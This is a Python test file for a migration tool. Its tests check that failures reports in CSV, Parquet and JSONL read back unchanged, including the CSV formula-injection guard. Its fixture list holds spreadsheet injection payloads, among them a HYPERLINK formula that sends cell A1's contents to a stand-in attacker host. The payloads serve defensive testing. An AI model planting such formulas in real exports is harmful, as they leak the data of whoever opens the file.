"""A report of ours is valid input: reading it gives back the values it was made from.

The README's retry path feeds a failures report to a new run. Reading the report
must undo exactly what writing it did, in every format: the CSV formula guard's
leading quote (or a formula reaches the pool as "'=HYPERLINK(...)"), the
"input:" prefix of clashing column names, and the report's own list columns,
which a Parquet reader cannot turn into text.
"""

from __future__ import annotations

import tempfile
from pathlib import Path

import polars as pl
import pytest
from hypothesis import HealthCheck, example, given, settings
from hypothesis import strategies as st

from migrate.records import ROW, Outcome, Status
from migrate.report import ReportWriter, outcomes_to_frame
from migrate.source import open_source

#: Input columns of the report; "status" and "row" clash with report columns.
INPUT_COLUMNS = ["username", "tenant", "status", "row", "note"]
FORMATS = ["csv", "parquet", "jsonl"]

#: Values the report writer or reader treat specially.
SPECIAL = [
    '=HYPERLINK("http://evil.example/?d="&A1,"click")',
    "=1+1",
    "'=1+1",
    "''=x",
    "'",
    "''",
    "'hello",
    "'+1 415",
    "+1 415 555 0100",
    "+SUM(A1)",
    "-5",
    "-5+A1",
    "@SUM(A1)",
    "\t=x",
    "\r=x",
    "a\r\nb",
    "line\nbreak",
    " ",
    "",
    "a,b",
    '"quoted"',
    "\ufeffbom",
    "caf\u00e9 \u2603 \U0001f600",
    "007",
    "NaN",
    "null",
]

# Any text a CSV or Parquet input can hold (valid UTF-8: no lone surrogates).
TEXT = st.text(alphabet=st.characters(exclude_categories=["Cs"]), max_size=12)
CELL = st.one_of(TEXT, st.sampled_from(SPECIAL))


def write_report(
    path: Path, inputs: list[dict[str, str | None]], *, failed: bool = True
) -> None:
    """A report of these input rows, as the pipeline writes one."""
    batch = pl.DataFrame(
        {ROW: list(range(1, len(inputs) + 1))}
        | {c: [row[c] for row in inputs] for c in INPUT_COLUMNS},
        schema={ROW: pl.Int64} | dict.fromkeys(INPUT_COLUMNS, pl.String),
    )
    outcomes = [
        Outcome(
            row=i,
            user=row["username"] or "",
            status=Status.FAILED if failed else Status.UPDATED,
            changed=("custom:tenant_id", "name"),
            deleted=("custom:legacy_flag",),
            error_code="InvalidParameterException",
            error_message=f"=cmd {row['tenant']!r}",
            attempts=2,
        )
        for i, row in enumerate(inputs, start=1)
    ]
    frame = outcomes_to_frame(outcomes, batch, input_columns=INPUT_COLUMNS)
    with ReportWriter(path, input_columns=INPUT_COLUMNS) as writer:
        writer.write(frame)


def read_back(path: Path) -> list[dict[str, str | None]]:
    source = open_source(path)
    assert source.columns == INPUT_COLUMNS
    frame = pl.concat(list(source.batches()))
    return frame.select(INPUT_COLUMNS).to_dicts()


def expected(
    inputs: list[dict[str, str | None]], format: str
) -> list[dict[str, str | None]]:
    # CSV has one empty cell for both null and "": it reads back as "".
    if format != "csv":
        return inputs
    return [{c: v or "" for c, v in row.items()} for row in inputs]


@given(
    inputs=st.lists(
        st.fixed_dictionaries({c: st.one_of(st.none(), CELL) for c in INPUT_COLUMNS}),
        min_size=1,
        max_size=6,
    ),
    format=st.sampled_from(FORMATS),
)
@example(
    inputs=[dict.fromkeys(INPUT_COLUMNS, value) for value in SPECIAL], format="csv"
)
@settings(
    max_examples=300,
    deadline=None,
    suppress_health_check=[HealthCheck.function_scoped_fixture],
)
def test_any_input_values_survive_a_report(
    tmp_path: Path, inputs: list[dict[str, str | None]], format: str
) -> None:
    folder = Path(tempfile.mkdtemp(dir=tmp_path))
    path = folder / f"failed.{format}"
    write_report(path, inputs)
    assert read_back(path) == expected(inputs, format)


@pytest.mark.parametrize("format", FORMATS)
def test_a_formula_in_a_failures_report_reads_back_as_the_formula(
    tmp_path: Path, format: str
) -> None:
    formula = '=HYPERLINK("http://evil.example","click")'
    path = tmp_path / f"failed.{format}"
    row: dict[str, str | None] = dict.fromkeys(INPUT_COLUMNS, "x")
    write_report(path, [row | {"tenant": formula, "note": "'kept"}])
    if format == "csv":
        # What a spreadsheet sees: the guard is there...
        assert "'=HYPERLINK" in path.read_text(encoding="utf-8")
    # ...and what the next run sees: the value itself, which the checks refuse.
    (back,) = read_back(path)
    assert back["tenant"] == formula
    assert back["note"] == "'kept"


@pytest.mark.parametrize("format", FORMATS)
def test_the_report_columns_are_not_input(tmp_path: Path, format: str) -> None:
    path = tmp_path / f"failed.{format}"
    write_report(path, [dict.fromkeys(INPUT_COLUMNS, "v")])
    batch = next(open_source(path).batches())
    assert not {"user", "changed", "deleted", "error_message", "input:row"} & set(
        batch.columns
    )
    # JSON lines batches also carry every column's cell problems (see source).
    assert batch.select(ROW, *INPUT_COLUMNS).row(0) == (1, "v", "v", "v", "v", "v")
